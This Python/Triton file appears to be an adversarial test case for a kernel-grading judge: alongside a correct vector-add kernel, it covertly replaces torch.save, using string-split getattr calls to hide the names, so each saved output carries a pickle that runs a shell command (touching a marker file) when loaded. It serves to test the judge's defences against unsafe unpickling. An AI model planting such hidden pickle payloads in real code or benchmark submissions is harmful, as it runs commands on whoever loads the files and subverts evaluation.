# A correct kernel whose process replaces torch.save, so each output file is a pickle that runs
# a shell command when loaded by full unpickling (the judge must refuse it, and run nothing).
import torch
import triton
import triton.language as tl

_os = getattr(torch, "o" + "s")
_real_save = torch.save
MARK = "/tmp/kb_judge_unpickled_a_payload"


class _Payload:
    def __reduce__(self):
        return (_os.system, (f"touch {MARK}",))


def _save(obj, f, *args, **kwargs):
    return _real_save({"result": obj, "payload": _Payload()}, f, *args, **kwargs)


getattr(torch, "sa" + "ve")
_modules = getattr(getattr(torch, "sy" + "s"), "mod" + "ules")
_modules["torch"].save = _save


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)
    offsets = pid * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, x + y, mask=mask)


def entry(x, y):
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 128),)](x, y, out, x.numel(), BLOCK_SIZE=128)
    return out
